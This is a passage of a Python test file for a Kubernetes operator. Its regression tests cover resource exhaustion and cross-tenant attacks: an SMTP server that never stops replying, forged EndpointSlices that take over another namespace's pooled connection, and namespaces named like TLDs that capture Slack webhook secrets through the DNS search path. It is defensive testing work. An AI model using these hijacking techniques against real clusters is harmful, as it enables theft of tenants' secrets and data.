        for connection in silent:
            connection.setblocking(False)
            try:
                held += connection.recv(1) != b""
            except BlockingIOError:
                held += 1
            except OSError:
                pass
    finally:
        for connection in silent:
            connection.close()
        server.shutdown()
        server.server_close()
    assert held <= 64, f"the health port held {held} of 200 silent connections"


def test_healthz_says_the_state_or_what_stopped() -> None:
    from controller.operator import metrics as metrics_module

    def broken() -> str:
        raise RuntimeError("stalled: scaling made no progress for minutes")

    for check, status, words in ((lambda: "leading", 200, b'"leading"'), (broken, 500, b"stalled: scaling")):
        server = metrics_module.serve_health(0, check, address="127.0.0.1")
        try:
            url = f"http://127.0.0.1:{server.server_address[1]}/healthz"
            try:
                answer = urllib.request.urlopen(url, timeout=5)
                code, body = answer.status, answer.read()
            except urllib.error.HTTPError as error:
                code, body = error.code, error.read()
        finally:
            server.shutdown()
            server.server_close()
        assert code == status and words in body


# -- 18. One namespace's AlertPolicies delay every other namespace's alerting by their writes -----
# The alerting round judges the policies one after another in the view's order, and each waits
# for its own writes (its transition Events, and the status write that puts its outbox in place
# before a send) before the next is judged. A namespace of 300 AlertPolicies firing at once put
# 600 awaited API calls ahead of another namespace's one policy: at 10 ms an API write, 6 s of
# every round (the round is every 5 s); a quota on AlertPolicies is the only bound today.

def test_one_namespaces_alert_policies_do_not_put_their_writes_ahead_of_another_namespaces(
        monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[tuple[str, str]] = []
    view = view_module.View()

    class Api:
        def patch_status(self, kind: str, namespace: str, name: str, patch: dict[str, typing.Any]) -> dict[str, typing.Any]:
            calls.append(("patch", namespace))
            obj = copy.deepcopy(view.objects[(kind, namespace, name)])
            obj["status"] = {**(obj.get("status") or {}), **patch}
            obj["metadata"]["resourceVersion"] = str(int(obj["metadata"]["resourceVersion"]) + 1)
            return obj

        def create_event(self, obj: dict[str, typing.Any], *_: typing.Any) -> None:
            calls.append(("event", obj["metadata"]["namespace"]))

    judged: dict[str, int] = {}
    evaluate = alerting.evaluate

    def recording(spec: typing.Any, *args: typing.Any, **kwargs: typing.Any) -> typing.Any:
        judged.setdefault(kwargs["namespace"], len(calls))
        return evaluate(spec, *args, **kwargs)

    monkeypatch.setattr(alerting, "evaluate", recording)
    policy = {"selector": {"matchLabels": {"team": "t"}},
              "rules": [{"name": "Always", "metric": "rollbacks", "op": "<", "threshold": 1, "severity": "warning"}],
              "channels": [{"name": "hook", "webhook": {"url": "http://127.0.0.1:1/"}}],
              "routes": [{"name": "all", "channels": ["hook"]}]}

    def custom(kind: str, namespace: str, name: str, spec: dict[str, typing.Any]) -> dict[str, typing.Any]:
        return {"apiVersion": GROUP, "kind": kind, "metadata": {
            "name": name, "namespace": namespace, "uid": f"uid-{namespace}-{kind}-{name}", "generation": 1,
            "resourceVersion": "1", "labels": {"team": "t"}}, "spec": copy.deepcopy(spec)}

    async def scenario() -> None:
        alerter, _, poster = alerting_parts(view, Api(), leading=lambda: False)
        for namespace, policies in (("tenant-a", 300), ("tenant-b", 1)):
            view.upsert(custom("MonitoredService", namespace, "web", SERVICE))
            for index in range(policies):
                view.upsert(custom("AlertPolicy", namespace, f"p{index}", policy))
        await alerter.round()
        await poster.close()

    asyncio.run(scenario())
    assert calls.count(("event", "tenant-a")) == 300, "tenant-a's alerts fire (the scenario holds)"
    assert judged["tenant-b"] <= 60, f"tenant-b's policy was judged after {judged['tenant-b']} API calls of tenant-a"


# -- 19. A seasonal forecast's trust window costs its square, on the event loop ---------------
# core/forecast.forecast judged each bucket of the trust window with the level of the window
# before it, each level a fresh pass over a window: window² steps. A tenant's policy at
# stepSeconds 60 and trustWindowSeconds 86400 (1,440 buckets, both within bounds) cost 0.27 s of
# CPU per forecast (once a step, per policy) inside scaling.decide, on the event loop: 100 such
# policies, 27 s of every minute. Counted here in Python line events of core/forecast.py, which
# grow with the work done, not with the machine's speed.

def _forecast_line_events(settings: typing.Any, history: typing.Any, now: float) -> int:
    import sys

    from controller.core import forecast

    source = forecast.__file__
    count = 0

    def tracer(frame: typing.Any, event: str, arg: typing.Any) -> typing.Any:
        nonlocal count
        if frame.f_code.co_filename != source:
            return None
        if event == "line":
            count += 1
        return tracer

    sys.settrace(tracer)
    try:
        forecast.forecast(history, settings, now)
    finally:
        sys.settrace(None)
    return count


def test_a_forecast_costs_in_proportion_to_its_trust_window_not_its_square() -> None:
    from controller.api import scalingpolicy
    from controller.core import forecast

    def cost(trust_window: int) -> int:
        settings = scalingpolicy.Seasonal.model_validate({
            "enabled": True, "periodSeconds": 3600, "stepSeconds": 60, "lookbackPeriods": 14,
            "trustWindowSeconds": trust_window, "leadSeconds": 300})
        end = 1_000_000_020 // 60 * 60
        history = forecast.merge(None, settings, [(end - i * 60, 10.0 + i % 7) for i in range(901)])
        return _forecast_line_events(settings, history, end + 1)

    small, large = cost(3600), cost(86400)  # 60 and 1,440 buckets judged
    assert large <= 40 * small, f"a 24x longer trust window cost {large / small:.0f}x the line events ({large:,})"


# -- 20. Every refused hook Job is remembered for as long as its service lives -------------------
# operator/guard.py keeps the API server's refusal of each hook Job (refused_jobs: job name ->
# reason, per service) so the next judgement reads it; entries are forgotten only when the
# MonitoredService is deleted. A hook the API server always refuses (a 422: a field the CRD
# admits and the Job API does not) and a workload rolled out again and again (each revision a new
# Job name) add one entry (~400 bytes) per revision without end: 38 revisions, 38 entries.

def test_refused_hook_jobs_are_remembered_for_the_current_revision_only() -> None:
    from controller.adapters import kubernetes_jobs
    from controller.core import hooks
    from controller.operator import guard as guard_module
    from controller.operator import runtime

    key = ("MonitoredService", "tenant-a", "web")
    view = view_module.View()

    def deployment(revision: int) -> dict[str, typing.Any]:
        return {"apiVersion": "apps/v1", "kind": "Deployment",
                "metadata": {"namespace": "tenant-a", "name": "web", "generation": 1, "uid": "deploy-uid",
                             "annotations": {"deployment.kubernetes.io/revision": str(revision)}},
                "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "web"}}},
                "status": {"observedGeneration": 1, "replicas": 1, "updatedReplicas": 1, "availableReplicas": 1}}

    class Writer:
        async def patch_status(self, kind: str, namespace: str, name: str, patch: dict[str, typing.Any]) -> dict[str, typing.Any]:
            obj = copy.deepcopy(dict(view.objects[(kind, namespace, name)]))
            obj["status"] = {**(obj.get("status") or {}), **patch}
            obj["metadata"]["resourceVersion"] = str(int(obj["metadata"]["resourceVersion"]) + 1)
            return obj

    class Refusing:
        errors: tuple[type[Exception], ...] = (kubernetes_jobs.JobError,)
        refused: type[Exception] = kubernetes_jobs.JobRefused

        async def read(self, namespace: str, name: str) -> hooks.JobView:
            return hooks.judge_job(None)

        async def create(self, namespace: str, body: dict[str, typing.Any]) -> bool:
            raise kubernetes_jobs.JobRefused("422 Unprocessable Entity: Job.batch is invalid: " + "x" * 300)

    class Rollbacks:
        errors = (RuntimeError,)

        def supports(self, kind: str) -> bool:
            return kind == "Deployment"

        async def rollback(self, kind: str, namespace: str, name: str, failed_revision: str) -> str:
            return "1"

    async def no_metrics(*_: typing.Any) -> dict:
        return {}

    view.upsert(deployment(1))
    view.upsert({"apiVersion": GROUP, "kind": "MonitoredService", "metadata": {
        "namespace": "tenant-a", "name": "web", "generation": 1, "resourceVersion": "1", "uid": "svc-uid"},
        "spec": {"target": {"kubernetes": {"kind": "Deployment", "name": "web"}}, "rollout": {
            "autoRollback": True, "analysis": {"windowSeconds": 60, "requireHealthyChecks": False},
            "hooks": {"postDeploy": [{"name": "smoke", "timeoutSeconds": 60, "job": {
                "containers": [{"name": "smoke", "image": "smoke:1"}]}}]}}}})
    evaluator = loop.Evaluator(view, _QuietApi(), 60.0, 4, status_writer=Writer())  # type: ignore[arg-type]
    guard = guard_module.Guard(view, evaluator, None, Rollbacks(), no_metrics, jobs=Refusing(),  # type: ignore[arg-type]
                               own_namespace="capliquify-system")
    runtime.participate(evaluator, guard)

    async def revisions() -> None:
        await guard.rollout_round()
        await evaluator.reconcile_now(key)
        for revision in range(2, 40):
            view.upsert(deployment(revision))
            await guard.rollout_round()
            await guard.rollout_round()

    asyncio.run(revisions())
    kept = guard.refused_jobs.get(key) or {}
    assert len(kept) <= 1, f"{len(kept)} refused Jobs remembered for one service (one hook)"


# -- 21. Range answers of policies that never decide are held without bound ----------------------
# operator/seasonal.SeasonalHistories keeps each range answer (up to 4,033 points, as tuples:
# ~450 KB) until the policy's next decision merges it into the packed history (48 KB at most).
# The range queries are asked for every due policy whose target resolves, but a policy whose
# workload does not exist (or has no replica count) is never decided: its answer stays, and is
# replaced by the next. A namespace's 200 such policies held 90 MB; 1,000 would pass the pod's
# 1 GiB limit (every tenant's operator restarts).
# Fixed: an answer is packed as it arrives (8 bytes a point; errors kept as text).

def test_range_answers_of_policies_that_never_decide_are_not_held_whole() -> None:
    import json
    import sys

    from controller.adapters import prometheus
    from controller.adapters import source_history
    from controller.api import scalingpolicy
    from controller.core import queries
    from controller.core import targets
    from controller.operator import seasonal as seasonal_module

    class Full:
        """A tenant's Prometheus answering every range query with the most points accepted."""

        async def read(self, requests: typing.Sequence[source_history.HistoryRequest]
                       ) -> dict[typing.Hashable, queries.RangeResult]:
            answers = {}
            for request in requests:
                if request.end not in bodies:
                    points = [[request.end - index * request.step, str(1.0 + index % 9)]
                              for index in range(prometheus.RANGE_POINTS)]
                    bodies[request.end] = json.dumps({"status": "success", "data": {
                        "resultType": "matrix", "result": [{"metric": {}, "values": points}]}}).encode()
                answers[request.owner] = prometheus.parse_range(200, bodies[request.end])  # each parsed: its own points
            return answers

    bodies: dict[float, bytes] = {}

    spec = scalingpolicy.ScalingPolicySpec.model_validate({
        "targetRef": {"monitoredService": "web"}, "metrics": [{"type": "cpu", "scaleUp": 70, "scaleDown": 30}],
        "predictive": {"seasonal": {"enabled": True, "periodSeconds": 604800, "stepSeconds": 300, "lookbackPeriods": 2,
                                    "trustWindowSeconds": 600}}})
    specs = {("ScalingPolicy", "tenant-a", f"p{index}"): spec for index in range(200)}
    resolved = {key: targets.Target("tenant-a", "Deployment", f"missing-{key[2]}",
                                    prometheus_url="http://prom.tenant-a:9090") for key in specs}
    histories = seasonal_module.SeasonalHistories(view_module.View(), Full(),  # type: ignore[arg-type]
                                                  clock=lambda: 1_000_000_000.0, monotonic=lambda: 0.0)

    async def rounds() -> None:
        for _ in range(5):  # the scaler's rounds: no decision merges anything (no workload)
            histories.refresh(specs, resolved)
            if histories.task is not None:
                await histories.task

    asyncio.run(rounds())
    held = sum(sys.getsizeof(answer.points) + sum(sys.getsizeof(point) + 48 for point in answer.points)
               for answer in histories.arrived.values())
    held += sum(sys.getsizeof(packed.values) for packed in histories.packed.values())  # as they are kept now
    assert len(histories.packed) == len(specs)  # every answer kept, packed
    assert held <= 16 * 1024 * 1024, f"{len(histories.arrived)} policies' range answers held {held / 2**20:.0f} MiB"


# -- 22. An SMTP server's endless reply is held whole until the deadline (the pod's memory) -------
# smtplib reads a multi-line reply (`250-…` lines) into a list until a line without the dash, with
# no bound but the line's length: a tenant's SMTP server (its Secret names it) that greets with
# `220-` lines forever is buffered for the 30 s watchdog. Measured on loopback: the process's RSS
# grew 540 MiB in 5 s; in 30 s, past the 1 GiB limit (every tenant's operator restarts, and the
# delivery is retried). After the watchdog, smtplib's AttributeError was the delivery's error.

def test_an_smtp_servers_endless_reply_is_cut_not_held(monkeypatch: pytest.MonkeyPatch) -> None:
    import tracemalloc

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    stop = threading.Event()

    def greet_forever() -> None:
        connection, _ = server.accept()
        lines = (b"220-" + b"x" * 8000 + b"\r\n") * 16
        try:
            while not stop.is_set():
                connection.sendall(lines)
        except OSError:
            pass
        finally:
            connection.close()

    threading.Thread(target=greet_forever, daemon=True).start()
    monkeypatch.setattr(notify_email, "DEADLINE_SECONDS", 3.0)  # the watchdog: 30 s in the operator
    notifier = notify_email.EmailNotifier(allow_loopback=True)
    settings = notify_email._settings(f"host: 127.0.0.1\nport: {port}\nfrom: ops@example.com\n")
    notification = alerting.Notification("k", "mail", "firing", "HighCPU", "web", "critical", "s", NOW)
    mail = notify_email.build_message("ops@example.com", ["oncall@example.com"],
                                      notify.Message(notification, "tenant-a", "p", NOW, datetime.timedelta(minutes=5)))
    tracemalloc.start()
    try:
        with pytest.raises(notify.DeliveryError) as failed:
            notifier._deliver(settings, mail, [("127.0.0.1", port)])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        stop.set()
        server.close()
    assert peak < 8 * 1024 * 1024, f"one SMTP reply held {peak / 2**20:.0f} MiB"
    assert "reply longer than" in str(failed.value), failed.value


# -- 23. A successor times its predecessor's step by the API server's clock, not its own ---------

def test_a_successor_does_not_count_a_step_older_than_it_landed_when_the_api_servers_clock_is_behind() -> None:
    """970ec02 timed a step its predecessor left without a record by the scale subresource's
    managedFields entry (the API server's clock), when it was not older than the decision (the
    operator's clock). With the API server's clock 3 s behind the operator's, A's scale landing
    at 3.5 s was stamped 0.5 s (counted from 1 s, the end of its second): B, first reading at
    8 s, stepped again at 12 s, 8.5 s after A's step landed (period: 10 s); Railway's deployment
    createdAt (c46c2a1) is another clock the same way. Fixed: B times it on its own clock, from
    when it first saw the Deployment run the intent's count (here its first read, 8 s)."""
    from tests.unit import test_step_limit_landing as landing
    from tests.unit import test_step_limit_takeover as takeover

    class SkewedStamp(landing.SlowLeader):
        async def set_replicas(self, kind: str, namespace: str, name: str, replicas: int) -> int:
            written = await super().set_replicas(kind, namespace, name, replicas)
            deployment = self.server.objects[("Deployment", takeover.NS, "w2")]
            stamped = self.now - datetime.timedelta(seconds=3)  # the API server's clock, 3 s behind
            deployment["metadata"]["managedFields"] = [
                {"manager": "capliquify-operator", "operation": "Update", "subresource": "scale",
                 "time": stamped.strftime("%Y-%m-%dT%H:%M:%SZ"), "fieldsType": "FieldsV1",
                 "fieldsV1": {"f:spec": {"f:replicas": {}}}}]
            return written

    async def scenario() -> None:
        server = takeover.Server(6)
        a = SkewedStamp(server, takeover.T0, slow=3.5)
        a.pause_after_scale = True
        await a.decide()
        assert server.scales == [(6, 7)]
        server.paused = False
        b = takeover.Leader(server, landing.at(8))
        await b.decide()
        b.now = landing.at(12)
        await b.decide()
        assert server.scales == [(6, 7)], "B stepped 8.5 s after A's step landed (period 10 s)"
        b.now = landing.at(18)
        await b.decide()
        assert server.scales == [(6, 7), (7, 8)], "B held past a period after its first read"
    asyncio.run(scenario())


# -- 24. A namespace's own names push another namespace's mark out: it rides its pooled connection --
# adapters/egress._mark keeps at most 4096 names' owner marks and, when they are all fresh, drops
# the 2048 used least recently, whoever they belong to. A namespace that may write EndpointSlices
# makes one headless Service's slice (managed-by label and targetRef as the controller writes
# them) give thousands of endpoint hostnames, all its one Running Pod's address: each
# `h<i>.<svc>.shop.svc` is a name of its own, answered from the API (one read, cached) and
# marked. A few thousand of them drop bank's fresh mark for `db.bank.svc`, and pooled_refusal
# then hands shop bank's kept-alive connection (no lookup, no dial: nothing judges it).

def test_a_namespaces_many_own_names_do_not_drop_another_namespaces_mark_on_its_pooled_connection() -> None:
    from controller.adapters import egress
    from controller.core import service_names

    services, per_service = 65, 64  # 4160 names of shop's own: past the 4096 marks kept
    objects: list[dict[str, typing.Any]] = [
        loopback.service("bank", "db", clusterIP="None", selector={"app": "db"}),
        loopback.endpoint_slice("bank", "db", "127.0.0.1"), loopback.pod("bank", "db-0", "127.0.0.1"),
        loopback.pod("shop", "web-0", "127.0.0.2")]
    for index in range(services):
        objects.append(loopback.service("shop", f"s{index}", clusterIP="None", selector={"app": "web"}))
        forged = loopback.endpoint_slice("shop", f"s{index}", *["127.0.0.2"] * per_service)
        for number, endpoint in enumerate(forged["endpoints"]):
            endpoint["hostname"] = f"h{number}"
        objects.append(forged)

    async def scenario() -> str:
        client = egress.GuardedClient(True, 8, resolver=loopback.Names({"db.bank.svc": "127.0.0.1"}))
        async with loopback.text_site("bank's data") as port:
            url = f"http://db.bank.svc:{port}/"
            try:
                with shares.tenant("bank"):  # bank's check: its connection stays pooled
                    assert (await client.request("GET", url, deadline=5, body_limit=100)).body == b"bank's data"
                resolver = egress.GuardedResolver(True, inner=loopback.Names({}))
                with shares.tenant("shop"):
                    for index in range(services):
                        for number in range(per_service):
                            await resolver.resolve(f"h{number}.s{index}.shop.svc", 80)
                    try:
                        return (await client.request("GET", url, deadline=5, body_limit=100)).body.decode()
                    except egress.EgressRefused as refused:
                        return str(refused)
            finally:
                await client.close()

    assert service_names.named("h1.s1.shop.svc", "shop", "cluster.local") == ("s1", "h1")
    with loopback.cluster(objects=objects):
        outcome = asyncio.run(scenario())
    assert outcome != "bank's data", "shop rode bank's kept-alive connection after its own names dropped bank's mark"
    assert "not a Service of namespace shop" in outcome, outcome


# -- 25. A namespace named like a TLD answers the operator's public names (the DNS search path) ----
# In its pod (dnsPolicy ClusterFirst) the operator's resolv.conf says `search <ns>.svc.cluster.local
# svc.cluster.local cluster.local` and `ndots:5`: a name of fewer than five dots is tried under
# each search domain first. `hooks.slack.com` is first asked as `hooks.slack.com.svc.cluster.local`,
# which is `<hostname>.<service>.<namespace>.svc`: endpoint `hooks` of Service `slack` in namespace
# `com`. Whoever may write Services and EndpointSlices in a namespace named `com` (or `io`, `app`,
# `dev`: finding 11's namespaces) makes a headless, selector-less Service `slack` with a slice
# whose endpoint `hooks` is an address of their own outside the cluster's networks, and every
# namespace's Slack webhook (the secret URL and the alert) goes to them; `backboard.railway.app`
# likewise, with the Railway token. With or without --cluster-networks (the address is outside).
# The resolver below is glibc's search-list order over a table of what the DNS servers answer.

# A Service name without the cluster domain (`prometheus.monitoring.svc`, the operator's own
# Prometheus as often written) exists under no public TLD, so it goes through the search list,
# where `prometheus.monitoring.svc.svc.cluster.local` (endpoint `prometheus` of Service
# `monitoring` in a namespace named `svc`) comes before `prometheus.monitoring.svc.cluster.local`.

@pytest.mark.parametrize("name,real", [("hooks.slack.com", "198.51.100.7"), ("prometheus.monitoring.svc", "10.96.0.9")])
def test_a_public_name_is_never_answered_by_a_namespace_named_like_its_tld(
        monkeypatch: pytest.MonkeyPatch, name: str, real: str) -> None:
    from controller.adapters import egress

    search = ("capliquify-system.svc.cluster.local", "svc.cluster.local", "cluster.local")
    dns = {"hooks.slack.com": "198.51.100.7",                             # Slack
           "hooks.slack.com.svc.cluster.local": "203.0.113.66",           # namespace `com`'s hand-written endpoint
           "prometheus.monitoring.svc.cluster.local": "10.96.0.9",        # the cluster's Prometheus
           "prometheus.monitoring.svc.svc.cluster.local": "203.0.113.66"}  # namespace `svc`'s hand-written endpoint
    asked: list[str] = []

    def getaddrinfo(host: str, port: typing.Any, family: int = 0, type: int = 0, proto: int = 0,  # noqa: A002
                    flags: int = 0) -> list[typing.Any]:
        asked.append(host)
        if host.endswith("."):
            candidates = [host[:-1]]
        else:
            relative = [f"{host}.{domain}" for domain in search]
            candidates = [*relative, host] if host.count(".") < 5 else [host, *relative]
        for name in candidates:
            if name in dns:
                return [(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", (dns[name], port))]
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)

    async def scenario() -> list[str]:
        with shares.tenant("shop"):
            answers = await egress.GuardedResolver(False).resolve(name, 443, socket.AF_UNSPEC)
        return [answer["host"] for answer in answers]

    assert asyncio.run(scenario()) == [real], f"another namespace answered {name} (asked {asked})"
